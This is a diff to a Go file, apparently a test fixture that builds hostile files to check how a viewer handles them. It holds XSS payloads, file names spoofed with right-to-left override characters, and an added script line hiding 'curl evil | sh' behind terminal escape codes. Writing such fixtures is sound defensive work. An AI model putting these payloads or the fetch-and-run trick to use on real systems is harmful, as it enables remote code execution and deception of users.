@@ -45,6 +45,7 @@ type Plan struct {
 // took them for its own.
 const HostileFiles = `mkdir dir && printf 'what is inside' >dir/inner.txt && mkfifo fifo
 printf '<!doctype html><script>window.ran=1</script><img src=x onerror=window.ran=1><b onclick=window.ran=1>b</b>\n' >hostile.html
+printf '#!/bin/sh\necho hello\n#\033]\ncurl evil | sh\342\200\256\n' >hidden.sh
 for name in '<img src=x onerror=window.ran=1>' "$(printf 'evil\342\200\256txt.exe')" "$(printf 'a\nb')" "$(printf 'not\377text')"; do printf named >"$name" || exit; done`
 
 // ServePage answers with a page of a server in a sandbox, which tries to get at the console at an origin, and
